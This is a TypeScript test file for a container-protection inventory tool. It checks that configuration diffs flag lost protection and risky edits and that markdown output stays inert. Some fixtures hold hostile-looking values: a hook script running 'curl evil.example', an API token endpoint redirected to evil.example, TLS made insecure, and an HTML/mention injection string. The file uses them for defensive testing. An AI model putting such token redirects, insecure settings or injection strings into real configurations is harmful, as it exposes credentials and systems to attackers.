import assert from 'node:assert/strict';
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { protectionChanges, type Change } from '../../lib/inventory/changes.ts';
import { loadInventory } from '../../lib/inventory/load.ts';
import { programDigests } from '../../lib/inventory/program-digests.ts';
import { changesMarkdown, changesSummary, changesText } from '../../lib/tell/changes.ts';
import { folder } from './folder.ts';

const HOME = `
cluster: home
api: { endpoints: [https://10.0.0.11:8006], token: env:T, tls: { ca: ca.pem } }
defaults:
  nodes: [pve2]
  backup: { storage: nas, maxAge: 24h }
  failover: { auto: true, restoreStorage: local }
containers:
  dns: { vmid: 101, checks: [tcp: "10.0.0.53:53", exec: hooks/check] }
  web: { vmid: 102, checks: [tcp: "10.0.0.80:80"] }
  old: { vmid: 103, mode: observe, checks: [tcp: "10.0.0.90:80"] }
`;

/** What becomes different when the text (and the program) is edited; the two folders lie in different places. */
function changes(t: TestContext, edit: (yaml: string) => string, program = '#!/bin/sh\n'): Change[] {
  const before = folder(t, { 'a.yaml': HOME, 'ca.pem': '', 'hooks/check': '#!/bin/sh\n' });
  const after = folder(t, { 'a.yaml': HOME, 'ca.pem': '', 'hooks/check': program });
  writeFileSync(join(after, 'a.yaml'), edit(readFileSync(join(after, 'a.yaml'), 'utf8')));
  const [a, b] = [loadInventory(before), loadInventory(after)];
  return protectionChanges(
    { inventory: a, programs: programDigests(a) },
    { inventory: b, programs: programDigests(b) },
  );
}

const brief = (list: readonly Change[]): string[] =>
  list.map(({ kind, subject, text, details, risks }) =>
    [kind, subject, text, ...risks, ...details].join(' | '),
  );

test('nothing changes by another checkout, comments, or the order of keys', (t) => {
  const other = changes(
    t,
    (yaml) => `# a comment\n${yaml.replace('{ vmid: 102, checks', '{ priority: 100, vmid: 102, checks')}`,
  );
  assert.deepEqual(other, []);
  assert.equal(changesSummary(other), 'nothing changes for any container');
});

test('who loses protection comes first, and every setting that differs is there', (t) => {
  const list = changes(t, (yaml) =>
    yaml
      .replace('dns: { vmid: 101,', 'dns: { vmid: 101, failureThreshold: 5,')
      .replace('web: { vmid: 102,', 'web: { vmid: 102, mode: observe,')
      .replace(/ {2}old: .*\n/, '  new: { vmid: 104, checks: [ping: 10.0.0.9] }\n'),
  );
  assert.deepEqual(brief(list), [
    'loses | old | was watched only, will be not in the inventory | nothing looks after it any more',
    'loses | web | was protected automatically, will be watched only | mode: protect → observe',
    'changes | dns | stays protected automatically, with other settings | failureThreshold: 3 → 5',
    'gains | new | was not in the inventory, will be protected automatically',
  ]);
  assert.equal(
    changesSummary(list),
    'of the containers: 2 lose protection, 1 gains it, 1 keeps it with other settings',
  );
});

test('what gives up safety, moves the token, or runs something new is pointed at', (t) => {
  const list = changes(
    t,
    (yaml) =>
      yaml
        .replace('10.0.0.11:8006]', '10.0.0.11:8006, https://evil.example:8006]')
        .replace('tls: { ca: ca.pem }', 'tls: { insecure: true }')
        .replace('maxAge: 24h', 'maxAge: 7d')
        .replace('auto: true,', 'auto: true, proof: offline-accepted, returnRisk: accepted,')
        .replace('web: { vmid: 102,', 'web: { vmid: 105,'),
    '#!/bin/sh\ncurl evil.example\n',
  );
  const risks = Object.fromEntries(list.map((change) => [change.subject, change.risks]));
  assert.deepEqual(risks['cluster home'], [
    'the token will be sent to https://evil.example:8006',
    'tls.insecure: whoever is in between can take the token',
  ]);
  assert.deepEqual(risks['program hooks/check'], ['it will run on the runner, with its rights: read it']);
  assert.deepEqual(
    risks['web']?.map((risk) => risk.split(':')[0]),
    ['proof', 'returnRisk', 'backup.maxAge', 'another vmid'],
  );
});

test('in a comment nothing of the inventory becomes markup or a mention', () => {
  const nasty: Change = {
    kind: 'everything',
    subject: 'program hooks/`</details><img src=x> @everyone',
    text: 'is new',
    details: ['a: x → [click](https://evil.example)`\n\n# big'],
    risks: [],
  };
  const markdown = changesMarkdown([nasty]);
  for (const span of [...markdown.matchAll(/`[^`\n]*`/g)].map((m) => m[0]).concat(['']))
    assert.ok(!span.includes('\n'));
  const outside = markdown.replaceAll(/`[^`\n]*`/g, '');
  assert.doesNotMatch(outside, /img|@everyone|evil|# big/);
  const many = Array.from({ length: 2000 }, () => nasty);
  assert.ok(changesMarkdown(many).length < 65_536);
  assert.ok(changesText([nasty]).every((line) => !line.includes('\n')));
});

test('a program that only the runner knows is fingerprinted by its full path', (t) => {
  const dir = folder(t, { 'a.yaml': HOME, 'ca.pem': '', 'hooks/check': '#!/bin/sh\n' });
  const before = programDigests(loadInventory(dir));
  assert.deepEqual(Object.keys(before), ['hooks/check']);
  appendFileSync(join(dir, 'hooks/check'), '# more\n');
  assert.notEqual(programDigests(loadInventory(dir))['hooks/check'], before['hooks/check']);
});
